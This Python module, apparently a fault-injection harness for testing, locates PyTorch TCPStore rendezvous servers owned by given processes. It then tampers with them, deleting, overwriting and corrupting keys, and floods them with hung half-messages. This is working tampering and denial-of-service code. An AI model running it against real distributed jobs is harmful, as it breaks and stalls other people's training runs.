"""A stranger at a job's rendezvous store: finds its port, and changes, deletes and floods it."""

from __future__ import annotations

import os
import random
import socket
import struct
import time
from collections.abc import Callable, Iterable
from contextlib import ExitStack, suppress
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Any

from torch.distributed import DistError, TCPStore

ATTEMPT_S = 0.5
"""Limit for an answer; a store on this machine answers within milliseconds."""
SEARCH_INTERVAL_S = 0.005
"""A generation forms within 0.1 s."""
FLOOD_AFTER_S = 0.5
"""After a store was found: a flooded server answers the stranger late, too."""
CHANGED_AT_ONCE = 3
"""Keys; the members of a generation may get a key before it is changed."""
CONNECTIONS = 100
"""Kept open at a time, half of them with an unfinished message."""
_LISTEN = "0A"
_OWN_KEY = "stranger-"
_HELLO = struct.pack("<BI", 0, 0x3C85F7CE)  # torch's VALIDATE, and its magic number
_PING, _SET, _GET = 13, 1, 3  # torch's QueryType

Address = tuple[str, int]


@dataclass
class AttackReport:
    """What an attack reached."""

    stores: set[Address] = field(default_factory=set)
    listed: int = 0
    changed: int = 0
    deleted: int = 0
    connections: int = 0

    @property
    def fired(self) -> bool:
        """Whether keys were changed or deleted; or, without any key, whether a store answered."""
        return self.changed + self.deleted > 0 or (self.listed == 0 and bool(self.stores))

    def __str__(self) -> str:
        return (
            f"{len(self.stores)} stores, {self.listed} keys listed, {self.changed} overwritten, "
            f"{self.deleted} deleted, {self.connections} connections"
        )


def attack_stores(
    find_pids: Callable[[], Iterable[int]], seconds: float, seed: int
) -> AttackReport:
    """Attacks each store that a process of `find_pids` serves within the next `seconds`."""
    rng, report = random.Random(seed), AttackReport()
    attacks: dict[Address, _StoreAttack | None] = {}  # None: a server of another kind
    until_s = time.monotonic() + seconds
    with ExitStack() as stack:
        while time.monotonic() < until_s:
            for address, inode in listening_sockets().items():
                if address not in attacks and any(owns(pid, inode) for pid in find_pids()):
                    attack = _StoreAttack(address, rng, report) if is_store(address) else None
                    attacks[address] = attack
                    if attack is not None:
                        stack.callback(attack.close)
                        report.stores.add(address)
            for attack in attacks.values():
                if attack is not None:
                    attack.go_on()
            time.sleep(SEARCH_INTERVAL_S)
    return report


def listening_sockets() -> dict[Address, str]:
    """The IPv4 addresses on which processes of this machine listen, with the sockets' inodes."""
    rows = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    return {_parse_address(row[1]): row[9] for row in rows if row[3] == _LISTEN}


def owns(pid: int, inode: str) -> bool:
    """Whether a live process has that socket."""
    with suppress(OSError):
        for link in Path(f"/proc/{pid}/fd").iterdir():
            with suppress(OSError):
                if os.readlink(link) == f"socket:[{inode}]":
                    return True
    return False


def _parse_address(text: str) -> Address:
    host, port = text.split(":")
    return socket.inet_ntoa(struct.pack("=I", int(host, 16))), int(port, 16)


def is_store(address: Address) -> bool:
    """Whether a server answers as torch's TCPStore does."""
    nonce = struct.pack("<I", 0x5EED)
    with suppress(OSError), socket.create_connection(address, ATTEMPT_S) as connection:
        connection.sendall(_HELLO + bytes([_PING]) + nonce)
        return connection.recv(len(nonce)) == nonce
    return False


class _StoreAttack:
    """One store under attack, by a client of torch's own and by raw connections."""

    def __init__(self, address: Address, rng: random.Random, report: AttackReport) -> None:
        self._address = address
        self._rng = rng
        self._report = report
        self._flood_s = time.monotonic() + FLOOD_AFTER_S
        self._connections: list[socket.socket] = []
        self._client: Any = None

    def go_on(self) -> None:
        """Changes the keys that are there; once, later, floods the server."""
        try:
            if self._client is None:
                limit = timedelta(seconds=ATTEMPT_S)
                self._client = TCPStore(
                    *self._address, is_master=False, wait_for_workers=False, timeout=limit
                )
            self._change_keys()
        except (DistError, RuntimeError):  # the store was closed, or is too busy
            self._client = None
        if time.monotonic() > self._flood_s and not self._connections:
            self._flood()

    def close(self) -> None:
        for connection in self._connections:
            connection.close()

    def _change_keys(self) -> None:
        """Overwrites and deletes keys, and sets one that nobody asked for."""
        store, rng, report = self._client, self._rng, self._report
        keys = sorted(key for key in store.list_keys() if not key.startswith(_OWN_KEY))
        report.listed += len(keys)
        for key in rng.sample(keys, min(len(keys), CHANGED_AT_ONCE)):
            match rng.randrange(4):
                case 0:
                    report.deleted += bool(store.delete_key(key))
                    continue
                case 1:
                    store.set(key, rng.randbytes(rng.choice((0, 1, 31, 200))))
                case 2:  # another key's value, as it was
                    store.set(key, store.get(rng.choice(keys)))
                case 3:
                    store.append(key, "x")
            report.changed += 1
        store.set(f"{_OWN_KEY}{rng.randrange(10)}", b"x" * 2**16)

    def _flood(self) -> None:
        """Junk, and messages that announce more than they bring; the connections stay open."""
        rng = self._rng
        for number in range(CONNECTIONS):
            with suppress(OSError):
                connection = socket.create_connection(self._address, ATTEMPT_S)
                self._connections.append(connection)
                self._report.connections += 1
                half = _HELLO + struct.pack("<BQ", rng.choice((_SET, _GET)), 1 << rng.randrange(63))
                connection.sendall(half if number % 2 else rng.randbytes(rng.randrange(1, 200)))
